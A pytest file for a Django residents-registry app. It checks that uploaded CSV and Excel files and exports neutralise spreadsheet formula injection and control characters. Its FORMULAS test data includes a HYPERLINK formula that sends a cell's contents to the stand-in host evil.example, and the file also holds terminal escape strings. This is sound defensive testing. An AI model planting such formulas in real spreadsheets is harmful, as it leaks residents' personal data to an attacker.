"""Spreadsheets out of the registry are inert: an uploaded formula never comes back live (in a header or a
cell of the annotated copy), and control characters neither get in nor break the export for everyone."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from wangge.accounts.roles import Role
from wangge.registry import excel
from wangge.registry.models import Resident
from wangge.registry.text import xlsx_safe
from wangge.testing import api_client, make_user

from .factories import admin_user, make_resident
from .test_import import HEADERS, row, upload

pytestmark = pytest.mark.django_db

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?d="&A2,"点此")', "@SUM(A1)", "+1", "-1", "\t=1+1"]


def _cells(content: bytes) -> list[Any]:
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    return [c for r in ws.iter_rows() for c in r]


def _no_live_formula(content: bytes) -> list[Any]:
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return cells


def _annotated(client: Any, resp: Any) -> bytes:
    assert resp.status_code == 422, resp.content
    copy = client.get(resp.json()["annotated_url"])
    assert copy.status_code == 200
    return copy.content


def test_formula_headers_of_a_csv_come_back_as_text(tree: Any) -> None:
    user = make_user(Role.GRID_WORKER, tree.grid_a)
    client = api_client(user)
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow([*HEADERS, *FORMULAS])
    w.writerow([*row(tree.grid_a.code, 1, 身份证号="123"), *FORMULAS])  # a bad row: annotated copy
    content = _annotated(client, upload(client, buf.getvalue().encode(), "居民.csv"))
    cells = _no_live_formula(content)
    header = [c.value for c in cells[: len(HEADERS) + len(FORMULAS)]]
    assert header[len(HEADERS) :] == ["'" + f.strip() for f in FORMULAS]  # the reader strips headers


def test_formula_text_headers_of_a_workbook_come_back_as_text(tree: Any) -> None:
    user = make_user(Role.GRID_WORKER, tree.grid_a)
    client = api_client(user)
    wb = Workbook()
    ws = wb.active
    ws.append([*HEADERS, "x", "y"])
    for col, text in ((len(HEADERS) + 1, "=1+1"), (len(HEADERS) + 2, '=HYPERLINK("http://e","a")')):
        cell = ws.cell(1, col)
        cell.value = text
        cell.data_type = "s"  # text that looks like a formula, as Excel stores a quoted '=…
    ws.append(row(tree.grid_a.code, 1, 身份证号="123"))
    out = io.BytesIO()
    wb.save(out)
    content = _annotated(client, upload(client, out.getvalue()))
    _no_live_formula(content)


@pytest.mark.parametrize("bad", ["张\x07三", "\x1b[2J李四", "王\x00五"])
def test_control_characters_in_an_import_are_errors_and_the_copy_still_opens(tree: Any, bad: str) -> None:
    user = make_user(Role.GRID_WORKER, tree.grid_a)
    client = api_client(user)
    buf = io.StringIO()
    csv.writer(buf).writerows([HEADERS, row(tree.grid_a.code, 1, 姓名=bad)])
    resp = upload(client, buf.getvalue().encode(), "居民.csv")
    assert resp.status_code == 422
    errors = {(e["column"], e["message"][:8]) for e in resp.json()["errors"]}
    assert ("姓名", "不能包含控制字符") in errors
    assert not Resident.objects.exists()
    cells = _no_live_formula(_annotated(client, resp))
    names = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(bad[0])]
    assert all(ch.isprintable() for v in names for ch in v)


def test_export_survives_control_characters_already_stored(tree: Any) -> None:
    """Rows stored before the input check (or by another path) must not break the export for everyone."""
    admin = admin_user()
    r = make_resident(tree.grid_a, admin, name="赵六")
    Resident.objects.filter(pk=r.pk).update(name="赵\x07六\x1b")  # bypasses the service on purpose
    make_resident(tree.grid_a, admin, name='=HYPERLINK("http://e","a")')
    resp = api_client(admin).get("/api/v1/residents/export")
    assert resp.status_code == 200
    values = [c.value for c in _no_live_formula(resp.content)]
    assert "赵六" in values
    assert '\'=HYPERLINK("http://e","a")' in values


def test_xlsx_safe_keeps_ordinary_text() -> None:
    assert xlsx_safe("张三") == "张三"
    assert xlsx_safe("第一行\n第二行") == "第一行\n第二行"
    assert xlsx_safe("a\x00b\x1fc\ufffe") == "abc"
    assert xlsx_safe(12) == 12
    assert excel._safe("=1") == "'=1"
